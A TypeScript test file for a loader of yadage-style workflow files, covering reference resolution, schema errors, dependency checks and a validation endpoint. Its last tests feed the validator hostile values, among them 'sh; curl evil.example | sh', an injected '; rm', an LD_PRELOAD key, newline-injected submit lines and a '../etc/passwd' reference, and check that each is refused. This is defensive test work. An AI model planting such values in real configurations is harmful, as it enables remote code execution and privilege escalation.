// Reading yadage-style workflows: $ref resolution relative to the referring file, the schema, and the
// checks a schema cannot make — each problem reported with its JSON path and file.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { loadWorkflow } from '../../src/workflows/workflow-loader.js';
import { basic, client, SINGLE_USER, startTestGateway, type TestGateway } from '../support/gateway.js';

const EXAMPLE = join(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', 'examples', 'workflows', 'map-reduce');
const example = () => ({
  'workflow.yml': readFileSync(join(EXAMPLE, 'workflow.yml'), 'utf8'),
  'steps.yml': readFileSync(join(EXAMPLE, 'steps.yml'), 'utf8'),
});
const messages = (r: ReturnType<typeof loadWorkflow>) => r.problems.map((p) => `${p.file ?? '?'} ${p.path}: ${p.message}`);

describe('workflow loading', () => {
  it('resolves step files relative to the workflow and accepts the map-reduce example', () => {
    const r = loadWorkflow('workflow.yml', example());
    expect(messages(r)).toEqual([]);
    expect(r.spec!.stages.map((s) => s.name)).toEqual(['acquire', 'map', 'reduce']);
    expect(r.spec!.stages[1]!.scheduler.step?.process).toMatchObject({ process_type: 'string-interpolated-cmd', cmd: expect.stringContaining('wc -w') });
    // the same from a subdirectory, with a ref into a nested file
    const nested = loadWorkflow('wf/main.yml', {
      'wf/main.yml': example()['workflow.yml'].replace(/steps\.yml/g, 'lib/steps.yml'),
      'wf/lib/steps.yml': example()['steps.yml'],
    });
    expect(messages(nested)).toEqual([]);
  });

  it("accepts yadage's jsonpath_ready dependencies and a plain list alike", () => {
    const files = example();
    files['workflow.yml'] = files['workflow.yml'].replace('dependencies: [map]', "dependencies: {dependency_type: jsonpath_ready, expressions: ['map']}");
    expect(messages(loadWorkflow('workflow.yml', files))).toEqual([]);
  });

  it('names the path and the file of each schema error', () => {
    const files = example();
    files['steps.yml'] = files['steps.yml']
      .replace("    cmd: sh -c 'wc -w < {inputfile} > {outputfile}'\n", '')
      .replace('publisher_type: frompar-pub', 'publisher_type: fromwhere-pub');
    files['workflow.yml'] = files['workflow.yml'].replace(
      'scheduler_type: singlestep-stage\n      parameters:\n        counts',
      'scheduler_type: onestep\n      parameters:\n        counts',
    );
    const r = loadWorkflow('workflow.yml', files);
    expect(r.spec).toBeNull();
    expect(messages(r)).toEqual(
      expect.arrayContaining([
        'steps.yml $.stages[1].scheduler.step.process: cmd is missing',
        'steps.yml $.stages[1].scheduler.step.publisher.publisher_type: must be one of frompar-pub, fromglob-pub, interpolated-pub, constant-pub, fromparjq-pub, fromyaml-pub, manual-instructions-pub',
        'workflow.yml $.stages[2].scheduler.scheduler_type: must be one of singlestep-stage, multistep-stage, jq-stage',
      ]),
    );
  });

  it('requires a scatter for a multistep stage', () => {
    const files = example();
    files['workflow.yml'] = files['workflow.yml'].replace(/ {6}scatter:\n {8}method: zip\n {8}parameters: \[inputfile\]\n/, '');
    expect(messages(loadWorkflow('workflow.yml', files))).toContain('workflow.yml $.stages[1].scheduler: scatter is missing');
  });

  it('finds unknown and cyclic dependencies, duplicate stages, and references outside the dependencies', () => {
    const files = example();
    files['workflow.yml'] = files['workflow.yml']
      .replace('dependencies: [acquire]', 'dependencies: [acquire, reduce]')
      .replace('dependencies: [map]', 'dependencies: [map, fetch]')
      .replace('scatter:\n        method: zip\n        parameters: [inputfile]', 'scatter:\n        method: zip\n        parameters: [inputfile, nosuch]')
      .replace(
        'counts: {stages: map, output: count, flatten: true}',
        'counts: {stages: map, output: count, flatten: true}\n        extra: {stages: elsewhere, output: x}',
      );
    files['workflow.yml'] += '  - name: acquire\n    scheduler: {scheduler_type: singlestep-stage, step: {$ref: "steps.yml#/sum"}}\n';
    const m = messages(loadWorkflow('workflow.yml', files));
    expect(m).toEqual(
      expect.arrayContaining([
        'workflow.yml $.stages[3].name: stage acquire is defined twice (also $.stages[0])',
        'workflow.yml $.stages[2].dependencies: depends on stage fetch, which the workflow does not define',
        expect.stringMatching(/dependency cycle: (map -> reduce -> map|reduce -> map -> reduce)/),
        "workflow.yml $.stages[1].scheduler.scatter.parameters: scatters nosuch, which is not one of the stage's parameters",
        "workflow.yml $.stages[2].scheduler.parameters.extra: refers to outputs of elsewhere, which is not among this stage's dependencies",
      ]),
    );
  });

  it('reports broken references and unreadable files', () => {
    const files = example();
    expect(messages(loadWorkflow('workflow.yml', { 'workflow.yml': files['workflow.yml'] }))).toContain(
      "workflow.yml $.stages[0].scheduler.step: steps.yml is not among the workflow's files (workflow.yml)",
    );
    files['workflow.yml'] = files['workflow.yml'].replace('steps.yml#/count', 'steps.yml#/nothing').replace('steps.yml#/sum', '../etc/passwd#/x');
    const m = messages(loadWorkflow('workflow.yml', files));
    expect(m).toContain('workflow.yml $.stages[1].scheduler.step: $ref steps.yml#/nothing: steps.yml has nothing at #/nothing');
    expect(m).toContain("workflow.yml $.stages[2].scheduler.step: $ref ../etc/passwd#/x points outside the workflow's directory");
    expect(messages(loadWorkflow('workflow.yml', { 'workflow.yml': 'stages: [\n' }))[0]).toMatch(/^workflow.yml \$: workflow.yml is not valid YAML or JSON/);
  });
});

describe('strict validation: nothing a workflow says is ignored', () => {
  /** The example with its map stage changed by `edit` (a YAML fragment replaced). */
  const edited = (from: string, to: string, file: 'workflow.yml' | 'steps.yml' = 'workflow.yml') => {
    const files = example();
    expect(files[file]).toContain(from);
    files[file] = files[file].replace(from, to);
    return messages(loadWorkflow('workflow.yml', files));
  };

  it.each([
    [
      'a JSONPath output',
      '{stages: acquire, output: files, unwrap: true}',
      "{stages: acquire, output: 'files[0]', unwrap: true}",
      '$.stages[1].scheduler.parameters.inputfile.output: output selections by JSONPath are not supported: name one output key',
    ],
    [
      'a manual step',
      'process_type: string-interpolated-cmd',
      'process_type: manual-instructions-proc\n    instructions: do it',
      '$.stages[1].scheduler.step.process.process_type: manual steps (manual-instructions-*) are not supported: they need a person at a terminal',
      'steps.yml',
    ],
    [
      'an envscript',
      "imagetag: '1.36'",
      "imagetag: '1.36'\n    envscript: setup.sh",
      '$.stages[1].scheduler.step.environment.envscript: envscript (a script sourced in the container) is not supported: steps run without a container shell to source it in',
      'steps.yml',
    ],
    [
      // (NVIDIA's container runtime hands a container every GPU NVIDIA_VISIBLE_DEVICES=all names, where it honours the variable)
      'GPUs asked of the container runtime through the environment',
      "imagetag: '1.36'",
      "imagetag: '1.36'\n    env:\n      FINE: x\n      NVIDIA_VISIBLE_DEVICES: all",
      "$.stages[1].scheduler.step.environment.env.NVIDIA_VISIBLE_DEVICES: NVIDIA_* and AMD_VISIBLE_DEVICES in a step's env are not supported: they ask the container runtime for GPUs, which steps do not have yet",
      'steps.yml',
    ],
  ] as const)('refuses %s, naming the feature at its path', (_what, from, to, expected, file: 'workflow.yml' | 'steps.yml' = 'workflow.yml') => {
    const m = edited(from, to, file);
    expect(m.join('\n')).toContain(expected);
    expect(m.every((x) => /not supported/.test(x))).toBe(true);
  });

  it.each([
    ['the workflow', 'stages:', 'version: 1\nstages:', '$.version'],
    ['a stage', '  - name: map\n', '  - name: map\n    description: counts\n', '$.stages[1].description'],
    ['a scheduler', 'scheduler_type: multistep-stage', 'scheduler_type: multistep-stage\n      retries: 3', '$.stages[1].scheduler.retries'],
    [
      'a selector',
      '{stages: acquire, output: files, unwrap: true}',
      '{stages: acquire, output: files, unwrapp: true}',
      '$.stages[1].scheduler.parameters.inputfile.unwrapp',
    ],
    ['a scatter', 'method: zip', 'method: zip\n        chunks: 2', '$.stages[1].scheduler.scatter.chunks'],
  ] as const)('refuses an unknown key of %s', (_what, from, to, path) => {
    expect(edited(from, to)).toContain(`workflow.yml ${path}: is not a key of yadage or of the gateway here (a typo, or a key from another version?)`);
  });

  it('refuses unknown keys of steps, an unknown dependency type and a scatter on a singlestep stage', () => {
    expect(edited('globexpression: files/*.txt', 'globexpression: files/*.txt\n    sort: true', 'steps.yml')).toContain(
      'steps.yml $.stages[0].scheduler.step.publisher.sort: is not a key of yadage or of the gateway here (a typo, or a key from another version?)',
    );
    expect(edited('dependencies: [map]', 'dependencies: {dependency_type: all_done, expressions: [map]}')).toContain(
      'workflow.yml $.stages[2].dependencies.dependency_type: must be one of jsonpath_ready, expressions_fulfilled',
    );
    expect(
      edited("        total: '{workdir}/total.txt'\n", "        total: '{workdir}/total.txt'\n      scatter: {method: zip, parameters: [counts]}\n"),
    ).toContain(
      'workflow.yml $.stages[2].scheduler.scatter: scatter is not a key of a singlestep-stage (it takes parameters, step, workflow, workflow_opts, cases, register_values)',
    );
    expect(edited('{stages: map, output: count, flatten: true}', '{stages: map, steps: map, output: count}')).toContain(
      'workflow.yml $.stages[2].scheduler.parameters.counts: has stages and steps: select with exactly one of them (stages and steps are the same)',
    );
    expect(edited('dependencies: [map]', "dependencies: ['$.stages[?(@.name)]']")).toContain(
      'workflow.yml $.stages[2].dependencies: cannot read the stage selector "$.stages[?(@.name)]" (use NAME, NAME[INDEX], NAME[*] or NAME[INDEX].SUBSTAGE)',
    );
  });

  it('checks what a scheduler runs: exactly one of step, workflow and cases, and selectors that lead into subworkflows', () => {
    expect(
      edited(
        "step: {$ref: 'steps.yml#/count'}",
        "step: {$ref: 'steps.yml#/count'}\n      workflow: {stages: [{name: x, scheduler: {scheduler_type: singlestep-stage, step: {$ref: 'steps.yml#/sum'}}}]}",
      ),
    ).toContain('workflow.yml $.stages[1].scheduler: has step and workflow: give exactly one of step, workflow or cases');
    expect(edited("step: {$ref: 'steps.yml#/count'}", "cases: [{if: '.x'}]")).toContain(
      'workflow.yml $.stages[1].scheduler.cases[0]: give exactly one of step and workflow',
    );
    expect(edited('scheduler_type: multistep-stage', 'scheduler_type: jq-stage')).toEqual(
      expect.arrayContaining([
        'workflow.yml $.stages[1].scheduler.parameters: parameters is not a key of a jq-stage (it takes bindings, stepscript, postscript, step, workflow, workflow_opts, register_values)',
        'workflow.yml $.stages[1].scheduler: bindings is missing',
      ]),
    );
    expect(edited('{stages: acquire, output: files, unwrap: true}', "{stages: 'acquire[0].inner', output: files, unwrap: true}")).toContain(
      'workflow.yml $.stages[1].scheduler.parameters.inputfile: acquire[0].inner: stage acquire runs steps, not a subworkflow',
    );
  });

  it("accepts yadage's list form of parameters and the steps alias, and reads them as the object form", () => {
    const files = example();
    files['workflow.yml'] = files['workflow.yml'].replace(
      "parameters:\n        counts: {stages: map, output: count, flatten: true}\n        total: '{workdir}/total.txt'",
      "parameters:\n        - {key: counts, value: {steps: map, output: count, flatten: true}}\n        - {key: total, value: '{workdir}/total.txt'}",
    );
    const r = loadWorkflow('workflow.yml', files);
    expect(messages(r)).toEqual([]);
    expect(r.spec!.stages[2]!.scheduler.parameters).toEqual({ counts: { steps: 'map', output: 'count', flatten: true }, total: '{workdir}/total.txt' });
    files['workflow.yml'] = files['workflow.yml'].replace(
      "- {key: total, value: '{workdir}/total.txt'}",
      "- {key: counts, value: 1}\n        - {key: total, value: '{workdir}/total.txt'}",
    );
    expect(messages(loadWorkflow('workflow.yml', files))).toContain('workflow.yml $.stages[2].scheduler.parameters[1].key: parameter counts is given twice');
  });
});

describe('POST /api/af/workflows/validate', () => {
  let gw: TestGateway;
  const alice = () => client(gw, basic('alice'));
  beforeAll(async () => {
    gw = await startTestGateway(SINGLE_USER, { prefix: 'af-wf-' });
  });
  afterAll(async () => {
    await gw?.close();
  });

  it('answers valid with the stages, or each error with its path', async () => {
    const ok = await alice().post('/api/af/workflows/validate', { entry: 'workflow.yml', files: example() });
    expect(ok.json).toEqual({ valid: true, stages: ['acquire', 'map', 'reduce'], parameters: ['nfiles'], errors: [] });
    const files = example();
    files['steps.yml'] = files['steps.yml'].replace('environment_type: docker-encapsulated', 'environment_type: vm');
    const bad = await alice().post('/api/af/workflows/validate', { entry: 'workflow.yml', files });
    expect(bad.json).toEqual({
      valid: false,
      errors: [
        {
          path: '$.stages[1].scheduler.step.environment.environment_type',
          file: 'steps.yml',
          message: 'must be one of docker-encapsulated, localproc-env, noop-env, manual-instructions-env',
        },
      ],
    });
    const malformed = await alice().post('/api/af/workflows/validate', '{"entry": 1');
    expect(malformed.status).toBe(400);
    const unauthenticated = await client(gw).post('/api/af/workflows/validate', { entry: 'w', files: { w: '' } });
    expect(unauthenticated.status).toBe(401);
  });
});

describe('step fields that reach a shell, a submit description or a pod spec', () => {
  it('refuses what a hostile author would put there, naming the field in words', () => {
    const files = example();
    files['steps.yml'] = files['steps.yml']
      .replace('    interpreter: sh\n', "    interpreter: 'sh; curl evil.example | sh'\n")
      .replace(
        "    image: busybox\n    imagetag: '1.36'\n",
        '    image: "busybox\\n+Owner = root"\n    imagetag: \'1.36; rm\'\n    env:\n      \'LD_PRELOAD=/tmp/x.so\': x\n      GREETING: "hi\\nqueue 1000"\n      FINE: "a\\tb"\n',
      );
    const r = loadWorkflow('workflow.yml', files);
    expect(r.spec).toBeNull();
    expect(messages(r)).toEqual(
      expect.arrayContaining([
        'steps.yml $.stages[0].scheduler.step.process.interpreter: is not a program to run (letters, digits, _ . / + - and single spaces only)',
        'steps.yml $.stages[1].scheduler.step.environment.image: is not an image name (no spaces or control characters)',
        'steps.yml $.stages[1].scheduler.step.environment.imagetag: is not an image tag (letters, digits, _ . -)',
        'steps.yml $.stages[1].scheduler.step.environment.env["LD_PRELOAD=/tmp/x.so"]: is not an environment variable name (letters, digits and _, not starting with a digit)',
        'steps.yml $.stages[1].scheduler.step.environment.env.GREETING: contains a control character (newlines and the like are refused; tab is fine)',
      ]),
    );
    expect(messages(r).some((m) => m.includes('FINE'))).toBe(false);
  });

  it('still takes interpreters such as "python3" and "/usr/bin/env python3"', () => {
    for (const interpreter of ['python3', '/usr/bin/env python3', 'bash']) {
      const files = example();
      files['steps.yml'] = files['steps.yml'].replace('    interpreter: sh\n', `    interpreter: '${interpreter}'\n`);
      expect(messages(loadWorkflow('workflow.yml', files))).toEqual([]);
    }
  });
});
